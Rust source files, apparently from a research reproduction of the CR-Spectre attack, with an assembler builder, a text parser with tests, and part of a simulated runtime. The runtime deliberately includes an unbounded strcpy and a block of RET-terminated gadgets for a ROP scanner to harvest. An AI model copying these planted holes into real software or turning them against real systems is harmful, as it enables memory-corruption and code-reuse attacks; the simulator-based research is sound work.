        self.instr(Instr::Rdtsc(rd));
    }

    /// `syscall`
    pub fn syscall(&mut self) {
        self.instr(Instr::Syscall);
    }

    /// Loads the absolute address of `label` into `rd` (relocated).
    pub fn la(&mut self, rd: Reg, label: impl Into<String>) {
        self.text.push(TextItem::La(rd, label.into()));
    }

    // --- data directives ---------------------------------------------

    fn data_section(&mut self, section: Section) -> &mut Vec<DataItem> {
        match section {
            Section::Rodata => &mut self.rodata,
            Section::Data => &mut self.data,
            Section::Text => unreachable!("text handled separately"),
        }
    }

    fn data_offset(&self, section: Section) -> u64 {
        match section {
            Section::Rodata => self.rodata.iter().map(DataItem::len).sum(),
            Section::Data => self.data.iter().map(DataItem::len).sum(),
            Section::Text => unreachable!(),
        }
    }

    fn define_data_label(&mut self, section: Section, name: String) {
        let off = self.data_offset(section);
        let prev = self.labels.insert(name.clone(), (section, off));
        assert!(prev.is_none(), "duplicate label {name:?}");
    }

    /// Defines a label at the current `.data` position.
    pub fn data_label(&mut self, name: impl Into<String>) {
        self.define_data_label(Section::Data, name.into());
    }

    /// Defines a label at the current `.rodata` position.
    pub fn rodata_label(&mut self, name: impl Into<String>) {
        self.define_data_label(Section::Rodata, name.into());
    }

    /// Appends raw bytes to `.data`.
    pub fn db(&mut self, bytes: &[u8]) {
        self.data_section(Section::Data).push(DataItem::Bytes(bytes.to_vec()));
    }

    /// Appends raw bytes to `.rodata`.
    pub fn rodata_bytes(&mut self, bytes: &[u8]) {
        self.data_section(Section::Rodata).push(DataItem::Bytes(bytes.to_vec()));
    }

    /// Appends a NUL-terminated string to `.data`.
    pub fn asciz(&mut self, s: &str) {
        let mut b = s.as_bytes().to_vec();
        b.push(0);
        self.db(&b);
    }

    /// Reserves `n` zero bytes in `.data`.
    pub fn space(&mut self, n: u64) {
        self.data_section(Section::Data).push(DataItem::Space(n));
    }

    /// Appends a 64-bit constant to `.data`.
    pub fn dq(&mut self, value: u64) {
        self.data_section(Section::Data).push(DataItem::Quad(value));
    }

    /// Appends the absolute address of `label` to `.data` (relocated).
    pub fn dq_label(&mut self, label: impl Into<String>) {
        self.data_section(Section::Data).push(DataItem::QuadLabel(label.into()));
    }

    // --- build ---------------------------------------------------------

    /// Assembles into a linked [`Image`] named `name`.
    ///
    /// All labels become image symbols. The entry point is the label set by
    /// [`Asm::entry`], the label `main` if present, or offset 0.
    ///
    /// # Errors
    ///
    /// Returns [`AsmError`] for undefined labels or offsets that do not fit
    /// the instruction encoding.
    pub fn build(&self, name: impl Into<String>) -> Result<Image, AsmError> {
        let text_len = self.here();
        let rodata_off = text_len.div_ceil(PAGE_SIZE) * PAGE_SIZE;
        let rodata_len: u64 = self.rodata.iter().map(DataItem::len).sum();
        let data_off = (rodata_off + rodata_len).div_ceil(PAGE_SIZE) * PAGE_SIZE;

        // Resolve every label to an image-relative address.
        let resolve = |label: &str| -> Result<u64, AsmError> {
            let (section, off) = self
                .labels
                .get(label)
                .ok_or_else(|| AsmError::UndefinedLabel(label.to_string()))?;
            Ok(match section {
                Section::Text => *off,
                Section::Rodata => rodata_off + off,
                Section::Data => data_off + off,
            })
        };

        let mut relocs: Vec<Reloc> = Vec::new();
        let mut text = Vec::with_capacity(self.text.len() * INSTR_BYTES);
        for (idx, item) in self.text.iter().enumerate() {
            let pc = idx as u64 * INSTR_BYTES as u64;
            let instr = match item {
                TextItem::Fixed(i) => *i,
                TextItem::Branch(cond, rs1, rs2, label) => {
                    let target = resolve(label)?;
                    let off = rel_offset(pc, target, label)?;
                    Instr::Br(*cond, *rs1, *rs2, off)
                }
                TextItem::JmpTo(label) => {
                    let target = resolve(label)?;
                    Instr::Jmp(rel_offset(pc, target, label)?)
                }
                TextItem::CallTo(label) => {
                    let target = resolve(label)?;
                    Instr::Call(rel_offset(pc, target, label)?)
                }
                TextItem::La(rd, label) => {
                    let target = resolve(label)?;
                    // The imm field is rebased by the loader.
                    relocs.push(Reloc {
                        at: pc + 4,
                        addend: target,
                        kind: RelocKind::Imm32,
                    });
                    Instr::Ldi(*rd, target as i32)
                }
            };
            text.extend_from_slice(&instr.encode());
        }

        let mut emit_data = |items: &[DataItem], base: u64| -> Result<Vec<u8>, AsmError> {
            let mut out = Vec::new();
            for item in items {
                match item {
                    DataItem::Bytes(b) => out.extend_from_slice(b),
                    DataItem::Space(n) => out.extend(std::iter::repeat_n(0u8, *n as usize)),
                    DataItem::Quad(v) => out.extend_from_slice(&v.to_le_bytes()),
                    DataItem::QuadLabel(label) => {
                        let target = resolve(label)?;
                        relocs.push(Reloc {
                            at: base + out.len() as u64,
                            addend: target,
                            kind: RelocKind::Abs64,
                        });
                        out.extend_from_slice(&target.to_le_bytes());
                    }
                }
            }
            Ok(out)
        };

        let rodata_bytes = emit_data(&self.rodata, rodata_off)?;
        let data_bytes = emit_data(&self.data, data_off)?;

        let mut segments = vec![ImageSegment {
            name: ".text".into(),
            kind: SegKind::Text,
            offset: 0,
            bytes: text,
        }];
        if !rodata_bytes.is_empty() {
            segments.push(ImageSegment {
                name: ".rodata".into(),
                kind: SegKind::Rodata,
                offset: rodata_off,
                bytes: rodata_bytes,
            });
        }
        if !data_bytes.is_empty() {
            segments.push(ImageSegment {
                name: ".data".into(),
                kind: SegKind::Data,
                offset: data_off,
                bytes: data_bytes,
            });
        }

        let entry = match &self.entry {
            Some(label) => resolve(label)?,
            None => match self.labels.get("main") {
                Some(_) => resolve("main")?,
                None => 0,
            },
        };

        let mut image = Image::new(name, segments, entry);
        for (label, _) in self.labels.iter() {
            image.symbols.insert(label.clone(), resolve(label)?);
        }
        image.relocs = relocs;
        Ok(image)
    }
}

fn rel_offset(pc: u64, target: u64, label: &str) -> Result<i32, AsmError> {
    let off = target.wrapping_sub(pc) as i64;
    i32::try_from(off).map_err(|_| AsmError::OffsetOverflow(label.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;

    fn run(asm: &Asm) -> Machine {
        let image = asm.build("t").unwrap();
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).unwrap();
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean(), "{:?}", out.exit);
        m
    }

    #[test]
    fn forward_and_backward_branches() {
        let mut a = Asm::new();
        a.label("main");
        a.ldi(Reg::R1, 0);
        a.ldi(Reg::R2, 5);
        a.label("loop");
        a.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
        a.br(BranchCond::Ne, Reg::R1, Reg::R2, "loop");
        a.jmp("end");
        a.ldi(Reg::R1, 999); // skipped
        a.label("end");
        a.halt();
        let m = run(&a);
        assert_eq!(m.reg(Reg::R1), 5);
    }

    #[test]
    fn call_to_label() {
        let mut a = Asm::new();
        a.label("main");
        a.call("f");
        a.halt();
        a.label("f");
        a.ldi(Reg::R3, 17);
        a.ret();
        let m = run(&a);
        assert_eq!(m.reg(Reg::R3), 17);
    }

    #[test]
    fn data_and_la() {
        let mut a = Asm::new();
        a.label("main");
        a.la(Reg::R1, "value");
        a.ld(Width::D, Reg::R2, Reg::R1, 0);
        a.halt();
        a.data_label("value");
        a.dq(0xfeed);
        let m = run(&a);
        assert_eq!(m.reg(Reg::R2), 0xfeed);
    }

    #[test]
    fn dq_label_produces_relocated_pointer() {
        let mut a = Asm::new();
        a.label("main");
        a.la(Reg::R1, "ptr");
        a.ld(Width::D, Reg::R2, Reg::R1, 0); // r2 = &value
        a.ld(Width::D, Reg::R3, Reg::R2, 0); // r3 = *r2
        a.halt();
        a.data_label("ptr");
        a.dq_label("value");
        a.data_label("value");
        a.dq(42);
        let m = run(&a);
        assert_eq!(m.reg(Reg::R3), 42);
    }

    #[test]
    fn asciz_and_space() {
        let mut a = Asm::new();
        a.label("main");
        a.la(Reg::R1, "msg");
        a.ld(Width::B, Reg::R2, Reg::R1, 0);
        a.halt();
        a.data_label("msg");
        a.asciz("Hi");
        a.data_label("buf");
        a.space(64);
        let image = a.build("t").unwrap();
        let msg = image.symbol("msg").unwrap();
        let buf = image.symbol("buf").unwrap();
        assert_eq!(buf - msg, 3, "asciz includes the NUL");
        let m = run(&a);
        assert_eq!(m.reg(Reg::R2), b'H' as u64);
    }

    #[test]
    fn undefined_label_is_an_error() {
        let mut a = Asm::new();
        a.jmp("nowhere");
        assert_eq!(
            a.build("t").unwrap_err(),
            AsmError::UndefinedLabel("nowhere".into())
        );
    }

    #[test]
    #[should_panic(expected = "duplicate label")]
    fn duplicate_label_panics() {
        let mut a = Asm::new();
        a.label("x");
        a.label("x");
    }

    #[test]
    fn entry_defaults_to_main() {
        let mut a = Asm::new();
        a.nop();
        a.label("main");
        a.halt();
        let image = a.build("t").unwrap();
        assert_eq!(image.entry, INSTR_BYTES as u64);
    }

    #[test]
    fn explicit_entry_overrides_main() {
        let mut a = Asm::new();
        a.label("main");
        a.halt();
        a.label("start2");
        a.ldi(Reg::R1, 1);
        a.halt();
        a.entry("start2");
        let image = a.build("t").unwrap();
        assert_eq!(image.entry, image.symbol("start2").unwrap());
    }

    #[test]
    fn sections_are_page_aligned() {
        let mut a = Asm::new();
        a.label("main");
        a.halt();
        a.rodata_label("ro");
        a.rodata_bytes(b"const");
        a.data_label("rw");
        a.dq(1);
        let image = a.build("t").unwrap();
        for seg in &image.segments {
            assert_eq!(seg.offset % PAGE_SIZE, 0, "{}", seg.name);
        }
        assert!(image.symbol("rw").unwrap() > image.symbol("ro").unwrap());
    }

    #[test]
    fn rodata_is_not_writable_at_runtime() {
        let mut a = Asm::new();
        a.label("main");
        a.la(Reg::R1, "ro");
        a.ldi(Reg::R2, 1);
        a.st(Width::B, Reg::R1, Reg::R2, 0);
        a.halt();
        a.rodata_label("ro");
        a.rodata_bytes(b"x");
        let image = a.build("t").unwrap();
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).unwrap();
        m.start(li.entry);
        assert!(!m.run().exit.is_clean(), "store to .rodata must fault");
    }
}

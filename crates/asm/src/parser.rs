//! Text assembler: parse assembly source into an [`Asm`] program.
//!
//! The syntax mirrors the programmatic builder one-to-one:
//!
//! ```text
//! ; comments with ';' or '#'
//! .text
//! main:
//!     ldi   r1, 0
//!     la    r2, msg        ; absolute address (relocated)
//!     ldb   r3, [r2+0]
//!     addi  r1, r1, 1
//!     beq   r1, r3, done
//!     jmp   main
//! done:
//!     halt
//! .data
//! msg: .asciz "hello"
//! buf: .space 64
//! val: .dq 0x42
//! ptr: .dq &msg            ; pointer to a label (relocated)
//! ```
//!
//! # Examples
//!
//! ```
//! let image = cr_spectre_asm::parser::assemble("demo", "main: halt")?;
//! assert_eq!(image.symbol("main"), Some(0));
//! # Ok::<(), cr_spectre_asm::parser::ParseError>(())
//! ```

use std::fmt;

use cr_spectre_sim::image::Image;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

use crate::builder::{Asm, AsmError};

/// A parse failure with its 1-based source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// 1-based line number.
    pub line: usize,
    /// Human-readable description.
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for ParseError {}

impl From<AsmError> for ParseError {
    fn from(e: AsmError) -> ParseError {
        ParseError { line: 0, message: e.to_string() }
    }
}

/// Which section directives currently apply to data labels.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Section {
    Text,
    Data,
    Rodata,
}

/// Parses `source` and assembles it into an [`Image`] named `name`.
///
/// # Errors
///
/// Returns a [`ParseError`] describing the first syntax problem, or a
/// label-resolution failure from the underlying builder.
pub fn assemble(name: &str, source: &str) -> Result<Image, ParseError> {
    let asm = parse(source)?;
    asm.build(name).map_err(ParseError::from)
}

/// Parses `source` into an [`Asm`] program (callers can keep extending it,
/// e.g. to append the runtime).
///
/// # Errors
///
/// Returns a [`ParseError`] for the first malformed line.
pub fn parse(source: &str) -> Result<Asm, ParseError> {
    let mut asm = Asm::new();
    let mut section = Section::Text;
    for (i, raw) in source.lines().enumerate() {
        let lineno = i + 1;
        let line = strip_comment(raw).trim();
        if line.is_empty() {
            continue;
        }
        parse_line(&mut asm, &mut section, line, lineno)?;
    }
    Ok(asm)
}

fn strip_comment(line: &str) -> &str {
    // Respect quotes so ".asciz \"a;b\"" survives.
    let mut in_str = false;
    for (idx, ch) in line.char_indices() {
        match ch {
            '"' => in_str = !in_str,
            ';' | '#' if !in_str => return &line[..idx],
            _ => {}
        }
    }
    line
}

fn err(line: usize, message: impl Into<String>) -> ParseError {
    ParseError { line, message: message.into() }
}

fn parse_line(
    asm: &mut Asm,
    section: &mut Section,
    mut line: &str,
    lineno: usize,
) -> Result<(), ParseError> {
    // Section directives.
    match line {
        ".text" => {
            *section = Section::Text;
            return Ok(());
        }
        ".data" => {
            *section = Section::Data;
            return Ok(());
        }
        ".rodata" => {
            *section = Section::Rodata;
            return Ok(());
        }
        _ => {}
    }
    // Leading label.
    if let Some(colon) = line.find(':') {
        let (label, rest) = line.split_at(colon);
        let label = label.trim();
        if !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '.') {
            match section {
                Section::Text => asm.label(label),
                Section::Data => asm.data_label(label),
                Section::Rodata => asm.rodata_label(label),
            }
            line = rest[1..].trim();
            if line.is_empty() {
                return Ok(());
            }
        }
    }
    if line.starts_with('.') {
        return parse_data_directive(asm, *section, line, lineno);
    }
    if *section != Section::Text {
        return Err(err(lineno, "instructions are only allowed in .text"));
    }
    parse_instr(asm, line, lineno)
}

fn parse_data_directive(
    asm: &mut Asm,
    section: Section,
    line: &str,
    lineno: usize,
) -> Result<(), ParseError> {
    let (directive, rest) = match line.find(char::is_whitespace) {
        Some(sp) => line.split_at(sp),
        None => (line, ""),
    };
    let rest = rest.trim();
    let expect_data = |ok: bool| -> Result<(), ParseError> {
        if ok {
            Ok(())
        } else {
            Err(err(lineno, format!("{directive} not allowed in this section")))
        }
    };
    match directive {
        ".entry" => {
            asm.entry(rest);
            Ok(())
        }
        ".asciz" => {
            expect_data(section == Section::Data)?;
            let s = parse_string(rest).ok_or_else(|| err(lineno, "expected quoted string"))?;
            asm.asciz(&s);
            Ok(())
        }
        ".space" => {
            expect_data(section == Section::Data)?;
            let n = parse_u64(rest).ok_or_else(|| err(lineno, "expected size"))?;
            asm.space(n);
            Ok(())
        }
        ".dq" => {
            expect_data(section == Section::Data)?;
            if let Some(label) = rest.strip_prefix('&') {
                asm.dq_label(label.trim());
            } else {
                let v = parse_u64(rest).ok_or_else(|| err(lineno, "expected value or &label"))?;
                asm.dq(v);
            }
            Ok(())
        }
        ".bytes" => {
            let bytes: Option<Vec<u8>> = rest
                .split_whitespace()
                .map(|t| u8::from_str_radix(t, 16).ok())
                .collect();
            let bytes = bytes.ok_or_else(|| err(lineno, "expected hex bytes"))?;
            match section {
                Section::Data => asm.db(&bytes),
                Section::Rodata => asm.rodata_bytes(&bytes),
                Section::Text => return Err(err(lineno, ".bytes not allowed in .text")),
            }
            Ok(())
        }
        _ => Err(err(lineno, format!("unknown directive {directive}"))),
    }
}

fn parse_string(s: &str) -> Option<String> {
    let s = s.trim();
    let inner = s.strip_prefix('"')?.strip_suffix('"')?;
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next()? {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                '0' => out.push('\0'),
                '\\' => out.push('\\'),
                '"' => out.push('"'),
                other => out.push(other),
            }
        } else {
            out.push(c);
        }
    }
    Some(out)
}

fn parse_u64(s: &str) -> Option<u64> {
    let s = s.trim();
    if let Some(hex) = s.strip_prefix("0x") {
        u64::from_str_radix(hex, 16).ok()
    } else {
        s.parse().ok()
    }
}

fn parse_i32(s: &str) -> Option<i32> {
    let s = s.trim();
    if let Some(hex) = s.strip_prefix("0x") {
        u32::from_str_radix(hex, 16).ok().map(|v| v as i32)
    } else if let Some(hex) = s.strip_prefix("-0x") {
        u32::from_str_radix(hex, 16).ok().map(|v| -(v as i32))
    } else {
        s.parse().ok()
    }
}

fn parse_reg(s: &str) -> Option<Reg> {
    let s = s.trim();
    if s == "sp" {
        return Some(Reg::SP);
    }
    let idx: u8 = s.strip_prefix('r')?.parse().ok()?;
    Reg::from_index(idx)
}

/// Parses `[reg+imm]` / `[reg-imm]` / `[reg]`.
fn parse_mem_operand(s: &str) -> Option<(Reg, i32)> {
    let inner = s.trim().strip_prefix('[')?.strip_suffix(']')?;
    if let Some(plus) = inner.find('+') {
        let reg = parse_reg(&inner[..plus])?;
        let imm = parse_i32(&inner[plus + 1..])?;
        Some((reg, imm))
    } else if let Some(minus) = inner.rfind('-') {
        if minus == 0 {
            return None;
        }
        let reg = parse_reg(&inner[..minus])?;
        let imm = parse_i32(&inner[minus + 1..])?;
        Some((reg, -imm))
    } else {
        Some((parse_reg(inner)?, 0))
    }
}

fn alu_op(mnemonic: &str) -> Option<(AluOp, bool)> {
    let (base, imm) = match mnemonic.strip_suffix('i') {
        // `divi`/`remi` don't exist; the `u` suffix is part of the base.
        Some(base) if base != "divu" && !base.is_empty() => (base, true),
        _ => (mnemonic, false),
    };
    let op = match base {
        "add" => AluOp::Add,
        "sub" => AluOp::Sub,
        "mul" => AluOp::Mul,
        "divu" => AluOp::Divu,
        "remu" => AluOp::Remu,
        "and" => AluOp::And,
        "or" => AluOp::Or,
        "xor" => AluOp::Xor,
        "shl" => AluOp::Shl,
        "shr" => AluOp::Shr,
        "sar" => AluOp::Sar,
        _ => return None,
    };
    Some((op, imm))
}

fn branch_cond(mnemonic: &str) -> Option<BranchCond> {
    Some(match mnemonic {
        "beq" => BranchCond::Eq,
        "bne" => BranchCond::Ne,
        "blt" => BranchCond::Lt,
        "bge" => BranchCond::Ge,
        "bltu" => BranchCond::Ltu,
        "bgeu" => BranchCond::Geu,
        _ => return None,
    })
}

fn parse_instr(asm: &mut Asm, line: &str, lineno: usize) -> Result<(), ParseError> {
    let (mnemonic, rest) = match line.find(char::is_whitespace) {
        Some(sp) => line.split_at(sp),
        None => (line, ""),
    };
    let ops: Vec<&str> = rest.split(',').map(str::trim).filter(|s| !s.is_empty()).collect();
    let bad = || err(lineno, format!("malformed operands for {mnemonic}: {rest:?}"));
    let need = |n: usize| -> Result<(), ParseError> {
        if ops.len() == n {
            Ok(())
        } else {
            Err(err(lineno, format!("{mnemonic} expects {n} operands, got {}", ops.len())))
        }
    };

    match mnemonic {
        "nop" => asm.nop(),
        "halt" => asm.halt(),
        "ret" => asm.ret(),
        "mfence" => asm.mfence(),
        "syscall" => asm.syscall(),
        "ldi" => {
            need(2)?;
            asm.ldi(parse_reg(ops[0]).ok_or_else(bad)?, parse_i32(ops[1]).ok_or_else(bad)?);
        }
        "ldih" => {
            need(2)?;
            asm.instr(cr_spectre_sim::isa::Instr::Ldih(
                parse_reg(ops[0]).ok_or_else(bad)?,
                parse_i32(ops[1]).ok_or_else(bad)?,
            ));
        }
        "mov" => {
            need(2)?;
            asm.mov(parse_reg(ops[0]).ok_or_else(bad)?, parse_reg(ops[1]).ok_or_else(bad)?);
        }
        "la" => {
            need(2)?;
            asm.la(parse_reg(ops[0]).ok_or_else(bad)?, ops[1]);
        }
        "ldb" | "ldw" | "ldd" => {
            need(2)?;
            let w = width_of(mnemonic);
            let rd = parse_reg(ops[0]).ok_or_else(bad)?;
            let (rs, imm) = parse_mem_operand(ops[1]).ok_or_else(bad)?;
            asm.ld(w, rd, rs, imm);
        }
        "stb" | "stw" | "std" => {
            need(2)?;
            let w = width_of(mnemonic);
            let (rs1, imm) = parse_mem_operand(ops[0]).ok_or_else(bad)?;
            let rs2 = parse_reg(ops[1]).ok_or_else(bad)?;
            asm.st(w, rs1, rs2, imm);
        }
        "jmp" => {
            need(1)?;
            asm.jmp(ops[0]);
        }
        "jmpr" => {
            need(1)?;
            asm.jmpr(parse_reg(ops[0]).ok_or_else(bad)?);
        }
        "call" => {
            need(1)?;
            asm.call(ops[0]);
        }
        "callr" => {
            need(1)?;
            asm.callr(parse_reg(ops[0]).ok_or_else(bad)?);
        }
        "push" => {
            need(1)?;
            asm.push(parse_reg(ops[0]).ok_or_else(bad)?);
        }
        "pop" => {
            need(1)?;
            asm.pop(parse_reg(ops[0]).ok_or_else(bad)?);
        }
        "clflush" => {
            need(1)?;
            let (rs, imm) = parse_mem_operand(ops[0]).ok_or_else(bad)?;
            asm.clflush(rs, imm);
        }
        "rdtsc" => {
            need(1)?;
            asm.rdtsc(parse_reg(ops[0]).ok_or_else(bad)?);
        }
        m => {
            if let Some(cond) = branch_cond(m) {
                need(3)?;
                asm.br(
                    cond,
                    parse_reg(ops[0]).ok_or_else(bad)?,
                    parse_reg(ops[1]).ok_or_else(bad)?,
                    ops[2],
                );
            } else if let Some((op, is_imm)) = alu_op(m) {
                need(3)?;
                let rd = parse_reg(ops[0]).ok_or_else(bad)?;
                let rs1 = parse_reg(ops[1]).ok_or_else(bad)?;
                if is_imm {
                    asm.alui(op, rd, rs1, parse_i32(ops[2]).ok_or_else(bad)?);
                } else {
                    asm.alu(op, rd, rs1, parse_reg(ops[2]).ok_or_else(bad)?);
                }
            } else {
                return Err(err(lineno, format!("unknown mnemonic {m:?}")));
            }
        }
    }
    Ok(())
}

fn width_of(mnemonic: &str) -> Width {
    match mnemonic.as_bytes()[2] {
        b'b' => Width::B,
        b'w' => Width::W,
        _ => Width::D,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;

    fn run_src(src: &str) -> Machine {
        let image = assemble("t", src).unwrap();
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).unwrap();
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean(), "{:?}", out.exit);
        m
    }

    #[test]
    fn counting_loop() {
        let m = run_src(
            "
            main:
                ldi r1, 0
                ldi r2, 4
            loop:
                addi r1, r1, 1
                bne r1, r2, loop
                halt
            ",
        );
        assert_eq!(m.reg(Reg::R1), 4);
    }

    #[test]
    fn data_access_and_comments() {
        let m = run_src(
            "
            ; a comment
            main:
                la r1, val     # trailing comment
                ldd r2, [r1]
                ldd r3, [r1+8]
                halt
            .data
            val: .dq 0x10
                 .dq 32
            ",
        );
        assert_eq!(m.reg(Reg::R2), 0x10);
        assert_eq!(m.reg(Reg::R3), 32);
    }

    #[test]
    fn mem_operand_forms() {
        assert_eq!(parse_mem_operand("[r1]"), Some((Reg::R1, 0)));
        assert_eq!(parse_mem_operand("[r2+16]"), Some((Reg::R2, 16)));
        assert_eq!(parse_mem_operand("[r2-8]"), Some((Reg::R2, -8)));
        assert_eq!(parse_mem_operand("[sp+0x10]"), Some((Reg::SP, 16)));
        assert_eq!(parse_mem_operand("r1"), None);
    }

    #[test]
    fn string_escapes() {
        assert_eq!(parse_string(r#""a\nb\0""#), Some("a\nb\0".into()));
        assert_eq!(parse_string("nope"), None);
    }

    #[test]
    fn pointer_directive() {
        let m = run_src(
            "
            main:
                la r1, ptr
                ldd r2, [r1]
                ldb r3, [r2]
                halt
            .data
            msg: .asciz \"Q\"
            ptr: .dq &msg
            ",
        );
        assert_eq!(m.reg(Reg::R3), b'Q' as u64);
    }

    #[test]
    fn unknown_mnemonic_reports_line() {
        let e = assemble("t", "main:\n    frobnicate r1\n").unwrap_err();
        assert_eq!(e.line, 2);
        assert!(e.message.contains("frobnicate"));
    }

    #[test]
    fn operand_count_checked() {
        let e = assemble("t", "ldi r1").unwrap_err();
        assert!(e.message.contains("expects 2 operands"));
    }

    #[test]
    fn instructions_outside_text_rejected() {
        let e = assemble("t", ".data\nldi r1, 0").unwrap_err();
        assert!(e.message.contains("only allowed in .text"));
    }

    #[test]
    fn rodata_bytes_directive() {
        let image = assemble(
            "t",
            "
            main: halt
            .rodata
            tbl: .bytes de ad be ef
            ",
        )
        .unwrap();
        let sym = image.symbol("tbl").unwrap();
        let seg = image.segments.iter().find(|s| s.name == ".rodata").unwrap();
        assert_eq!(&seg.bytes[(sym - seg.offset) as usize..][..4], &[0xde, 0xad, 0xbe, 0xef]);
    }

    #[test]
    fn entry_directive() {
        let image = assemble("t", "main: halt\nalt: halt\n.entry alt").unwrap();
        assert_eq!(image.entry, image.symbol("alt").unwrap());
    }

    #[test]
    fn shift_and_alu_immediates() {
        let m = run_src(
            "
            main:
                ldi r1, 1
                shli r1, r1, 9
                muli r2, r1, 3
                andi r3, r2, 0xff0
                halt
            ",
        );
        assert_eq!(m.reg(Reg::R1), 512);
        assert_eq!(m.reg(Reg::R2), 1536);
        assert_eq!(m.reg(Reg::R3), 1536 & 0xff0);
    }
}

//! # cr-spectre-asm
//!
//! Assembler and program-construction toolkit for the CR-Spectre
//! reproduction's guest ISA.
//!
//! Three layers:
//!
//! * [`builder::Asm`] — a programmatic two-pass assembler producing linked
//!   [`cr_spectre_sim::image::Image`]s with symbols and ASLR-ready
//!   relocations (the `cr-spectre-workloads` crate builds its MiBench-like
//!   hosts with it);
//! * [`parser`] — a text assembler with the same capabilities;
//! * [`runtime`] — the `libsim` runtime linked into guest images: string
//!   and memory routines, syscall wrappers, stack-canary prologue and
//!   epilogue helpers, and — deliberately, as in any GCC-linked binary —
//!   a population of `RET`-terminated gadget sequences for the
//!   `cr-spectre-rop` scanner to harvest.
//!
//! # Example
//!
//! ```
//! use cr_spectre_asm::builder::Asm;
//! use cr_spectre_asm::runtime::add_runtime;
//! use cr_spectre_sim::{config::MachineConfig, cpu::Machine, isa::Reg};
//!
//! let mut asm = Asm::new();
//! asm.label("main");
//! asm.la(Reg::R1, "greeting");
//! asm.ldi(Reg::R2, 5);
//! asm.call("sys_write");
//! asm.halt();
//! add_runtime(&mut asm);
//! asm.data_label("greeting");
//! asm.asciz("hello");
//!
//! let image = asm.build("hello")?;
//! let mut machine = Machine::new(MachineConfig::default());
//! let loaded = machine.load(&image).expect("image fits");
//! machine.start(loaded.entry);
//! assert!(machine.run().exit.is_clean());
//! assert_eq!(machine.stdout(), b"hello");
//! # Ok::<(), cr_spectre_asm::AsmError>(())
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod builder;
pub mod parser;
pub mod runtime;

pub use builder::{Asm, AsmError};
pub use parser::{assemble, ParseError};

//! The `libsim` runtime: library routines linked into every guest image.
//!
//! Like a C runtime linked by GCC, these routines both provide services
//! (string/memory routines, syscall wrappers) and — crucially for the
//! paper — populate the image's executable pages with **`RET`-terminated
//! instruction sequences**. The paper notes that "a binary compiled using
//! GCC has various other libraries linked with it, thus providing more
//! gadgets than available only with the host"; [`add_runtime`] plays that
//! role here. The `cr-spectre-rop` scanner harvests its gadgets from these
//! bytes by scanning, not by symbol lookup.
//!
//! The module also provides the stack-frame helpers ([`emit_prologue`],
//! [`emit_epilogue`]) that implement the optional stack-canary mitigation
//! (`-fstack-protector` analogue) discussed in the paper's related work.

use cr_spectre_sim::cpu::{sys, CANARY_ADDR};
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

use crate::builder::Asm;

/// Appends every `libsim` routine and the gadget-bearing epilogue block to
/// `asm`. Call this once, after the program's own code.
///
/// Provided symbols: `memcpy`, `memset`, `strcpy`, `strlen`, `sys_exit`,
/// `sys_write`, `sys_exec`, `sys_getrand`, plus unnamed gadget bytes.
pub fn add_runtime(asm: &mut Asm) {
    memcpy(asm);
    memset(asm);
    strcpy(asm);
    strlen(asm);
    syscall_wrappers(asm);
    gadget_zoo(asm);
}

/// `memcpy(dst: r1, src: r2, len: r3)` — byte copy; clobbers `r4`, `r5`.
fn memcpy(asm: &mut Asm) {
    asm.label("memcpy");
    asm.ldi(Reg::R4, 0);
    asm.label("__memcpy_loop");
    asm.br(BranchCond::Geu, Reg::R4, Reg::R3, "__memcpy_done");
    asm.alu(AluOp::Add, Reg::R5, Reg::R2, Reg::R4);
    asm.ld(Width::B, Reg::R5, Reg::R5, 0);
    asm.alu(AluOp::Add, Reg::R6, Reg::R1, Reg::R4);
    asm.st(Width::B, Reg::R6, Reg::R5, 0);
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
    asm.jmp("__memcpy_loop");
    asm.label("__memcpy_done");
    asm.ret();
}

/// `memset(dst: r1, byte: r2, len: r3)` — clobbers `r4`, `r5`.
fn memset(asm: &mut Asm) {
    asm.label("memset");
    asm.ldi(Reg::R4, 0);
    asm.label("__memset_loop");
    asm.br(BranchCond::Geu, Reg::R4, Reg::R3, "__memset_done");
    asm.alu(AluOp::Add, Reg::R5, Reg::R1, Reg::R4);
    asm.st(Width::B, Reg::R5, Reg::R2, 0);
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
    asm.jmp("__memset_loop");
    asm.label("__memset_done");
    asm.ret();
}

/// `strcpy(dst: r1, src: r2)` — copies up to and including the NUL;
/// clobbers `r4`, `r5`. This is the classic unbounded copy of the paper's
/// Algorithm 1.
fn strcpy(asm: &mut Asm) {
    asm.label("strcpy");
    asm.ldi(Reg::R4, 0);
    asm.label("__strcpy_loop");
    asm.alu(AluOp::Add, Reg::R5, Reg::R2, Reg::R4);
    asm.ld(Width::B, Reg::R5, Reg::R5, 0);
    asm.alu(AluOp::Add, Reg::R6, Reg::R1, Reg::R4);
    asm.st(Width::B, Reg::R6, Reg::R5, 0);
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
    asm.br(BranchCond::Ne, Reg::R5, Reg::R0, "__strcpy_loop");
    asm.ret();
}

/// `strlen(ptr: r1) -> r0` — clobbers `r4`, `r5`.
fn strlen(asm: &mut Asm) {
    asm.label("strlen");
    asm.ldi(Reg::R4, 0);
    asm.label("__strlen_loop");
